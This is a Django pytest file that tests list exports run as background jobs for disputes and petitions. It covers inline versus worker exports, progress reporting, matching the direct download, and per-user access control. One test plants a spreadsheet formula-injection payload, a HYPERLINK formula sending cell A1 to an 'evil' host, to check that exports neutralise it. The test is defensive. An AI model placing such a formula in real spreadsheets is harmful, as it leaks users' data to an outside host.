"""List exports run as jobs with progress: the list page posts its filters, a small export is
written at once and a large one by the worker; the file matches the direct download; another
user cannot see the job or its file."""

import io
import re

import openpyxl
import pytest
from django.urls import reverse

from jobs import list_exports
from jobs.models import Job, JobStatus
from jobs.runner import run_job
from jobs.views import jobs as job_views
from tests.dispute_helpers import new_dispute
from tests.petitions.helpers import new_petition

pytestmark = pytest.mark.django_db


def sheet_values(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def test_the_list_page_starts_an_export_that_matches_the_direct_download(client, demo):
    mediator = demo["xianjin_mediator"]
    new_dispute(mediator, summary='=HYPERLINK("http://evil/?"&A1,"点我")')
    new_dispute(mediator, summary="第二件")
    new_dispute(demo["yangchun_mediator"], village="yangchun", summary="阳春村的纠纷")
    client.force_login(mediator)
    page = client.get(reverse("disputes:list"), {"q": "第二件"}).content.decode()
    query = re.search(r'name="query" value="([^"]*)"', page).group(1).replace("&amp;", "&")
    response = client.post(reverse("jobs:export", args=["disputes"]), {"query": query})
    job = Job.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("jobs:detail", args=[job.pk])
    assert job.status == JobStatus.DONE and (job.done, job.total) == (1, 1)  # small: written at once
    detail = client.get(reverse("jobs:detail", args=[job.pk])).content.decode()
    assert "下载 Excel 文件" in detail and "已导出 1 行" in detail
    download = client.get(reverse("jobs:download", args=[job.pk]))
    assert "no-store" in download["Cache-Control"]
    content = b"".join(download.streaming_content)
    direct = client.get(reverse("disputes:export"), {"q": "第二件"}).content
    assert sheet_values(content) == sheet_values(direct)
    assert [r[1] for r in sheet_values(content)[1:]] == ["第二件"]
    # Without a filter: the mediator's village only, formula neutralised.
    client.post(reverse("jobs:export", args=["disputes"]), {"query": ""})
    everything = Job.objects.latest("pk")
    values = sheet_values(
        b"".join(client.get(reverse("jobs:download", args=[everything.pk])).streaming_content)
    )
    assert len(values) == 3 and any(str(v[1]).startswith("'=HYPERLINK") for v in values[1:])


def test_a_large_export_goes_to_the_worker_and_reports_progress(client, demo, monkeypatch):
    clerk = demo["zhuji_petition_clerk"]
    for i in range(5):
        new_petition(clerk, summary=f"信访{i}")
    monkeypatch.setattr(job_views, "INLINE_EXPORT_ROWS", 2)
    client.force_login(clerk)
    client.post(reverse("jobs:export", args=["petitions"]), {"query": "channel=letter"})
    job = Job.objects.get()
    assert job.status == JobStatus.QUEUED and job.total == 5  # handed to the worker after the commit
    status = client.get(reverse("jobs:status", args=[job.pk])).json()
    assert status["percent"] == 0 and not status["finished"]
    run_job(job.pk)  # what the worker does
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.done == 5
    assert client.get(reverse("jobs:status", args=[job.pk])).json()["percent"] == 100
    values = sheet_values(b"".join(client.get(reverse("jobs:download", args=[job.pk])).streaming_content))
    assert sorted(r[1] for r in values[1:]) == [f"信访{i}" for i in range(5)]


def test_another_user_gets_404_for_the_job_and_its_file(client, demo):
    new_dispute(demo["xianjin_mediator"])
    client.force_login(demo["xianjin_mediator"])
    client.post(reverse("jobs:export", args=["disputes"]), {"query": ""})
    job = Job.objects.get()
    client.force_login(demo["yangchun_mediator"])
    for name in ("jobs:detail", "jobs:status", "jobs:download"):
        assert client.get(reverse(name, args=[job.pk])).status_code == 404
    assert client.post(reverse("jobs:export", args=["nothing"]), {"query": ""}).status_code == 404


def test_exports_are_registered_for_both_case_types():
    assert set(list_exports.LIST_EXPORTS) >= {"disputes", "petitions"}
